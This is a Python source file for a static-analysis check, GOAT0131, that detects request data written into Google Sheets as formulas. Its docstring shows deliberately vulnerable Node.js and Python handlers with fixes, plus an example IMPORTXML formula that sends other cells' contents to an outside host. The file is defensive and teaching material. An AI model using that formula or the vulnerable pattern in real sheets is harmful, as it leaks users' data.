"""Event data becomes a formula of a spreadsheet.

## Why it matters
With `USER_ENTERED` a cell is what somebody would have typed: text of strangers that begins with `=` is computed when a
colleague opens the sheet. `=IMPORTXML("https://…"&A1)` sends what stands in other cells to whoever wrote it, and a
link that looks like one of your own leads elsewhere.

## Vulnerable
```yaml serverless.yml
service: shop
provider: {name: aws, runtime: nodejs22.x}
functions:
  ask:
    handler: app.handler
    events: [{httpApi: POST /questions}]
```
```javascript app.js
const { google } = require('googleapis');

exports.handler = async (event) => {
  const asked = JSON.parse(event.body);
  const sheets = google.sheets({ version: 'v4' });
  await sheets.spreadsheets.values.append({ // GOAT0131
    spreadsheetId: process.env.SHEET,
    range: 'Questions!A:B',
    valueInputOption: 'USER_ENTERED',
    requestBody: { values: [[new Date().toISOString(), asked.question]] },
  });
  return { statusCode: 204 };
};
```

## Fixed
```javascript app.js
const { google } = require('googleapis');

exports.handler = async (event) => {
  const asked = JSON.parse(event.body);
  const sheets = google.sheets({ version: 'v4' });
  await sheets.spreadsheets.values.append({
    spreadsheetId: process.env.SHEET,
    range: 'Questions!A:B',
    valueInputOption: 'RAW',
    requestBody: { values: [[new Date().toISOString(), asked.question]] },
  });
  return { statusCode: 204 };
};
```

## Vulnerable in Python
```yaml serverless.yml
service: shop
provider: {name: aws, runtime: python3.13}
functions:
  ask:
    handler: app.handler
    events: [{httpApi: POST /questions}]
```
```python app.py
import json

import gspread

sheet = gspread.service_account().open("Shop").sheet1

def handler(event, context):
    asked = json.loads(event["body"])
    sheet.append_row([asked["name"], asked["question"]], value_input_option="USER_ENTERED")  # GOAT0131
```

## Fixed in Python: text stays text
```python app.py
import json

import gspread

sheet = gspread.service_account().open("Shop").sheet1

def handler(event, context):
    asked = json.loads(event["body"])
    sheet.append_row([f"'{asked['name']}", f"'{asked['question']}"], value_input_option="USER_ENTERED")
```

## Remedy
Write with `valueInputOption: RAW`, or put a `'` before text of others.

## References
- https://owasp.org/www-community/attacks/CSV_Injection
- https://cwe.mitre.org/data/definitions/1236.html
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from goatherd.checks.api import check
from goatherd.checks.chosen import chosen_outside
from goatherd.checks.wording import listed
from goatherd.core.finding import MEDIUM, Finding
from goatherd.model.application import Application
from goatherd.model.function import Function

if TYPE_CHECKING:
    from goatherd.core.source import Span
    from goatherd.model.flow import Flow


@check("GOAT0131", sas=1, cwe=1236, severity=MEDIUM, since="0.1")
def event_data_as_formula(function: Function, app: Application) -> Iterator[Finding]:
    told: dict[Span, list[Flow]] = {}
    for flow in app.flows(function, "formula"):
        if chosen_outside(flow):
            told.setdefault(flow.sink, []).append(flow)
    for flows in told.values():
        fields = listed(list(dict.fromkeys(flow.source.path for flow in flows)), 3)
        becomes = "becomes a cell" if len(flows) == 1 else "become cells"
        yield flows[0].finding(f"{fields} {becomes} that {flows[0].sink_name} takes as if somebody had typed them")
